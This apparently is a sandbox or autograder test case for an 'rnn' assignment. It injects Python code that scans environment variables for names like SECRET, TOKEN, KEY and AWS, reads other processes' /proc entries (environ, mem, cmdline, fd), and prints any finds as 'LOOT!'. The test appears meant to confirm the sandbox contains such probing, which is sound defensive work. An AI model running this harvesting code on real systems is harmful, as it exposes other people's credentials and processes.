"""Look for secrets in the environment, the arguments and the limits of this and every other process."""

ASSIGNMENT = "rnn"
BASE = "stub"
EXPECT = {"*": ("not_attempted", 0)}

# %% before rnn_step
import os

for name, value in os.environ.items():
    if any(word in name.upper() for word in ("SECRET", "TOKEN", "KEY", "PASS", "SSH", "AWS", "SUDO", "VIRTUAL_ENV", "OLDPWD")):
        print("LOOT" + "!", name, value)
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        for name in ("cmdline", "environ", "maps", "mem", "cwd", "root", "fd"):
            path = f"/proc/{entry}/{name}"
            try:
                found = os.readlink(path) if name in ("cwd", "root") else os.listdir(path) if name == "fd" else open(path, "rb").read(100)
                print("LOOT" + "!", path, found)
            except OSError:
                pass
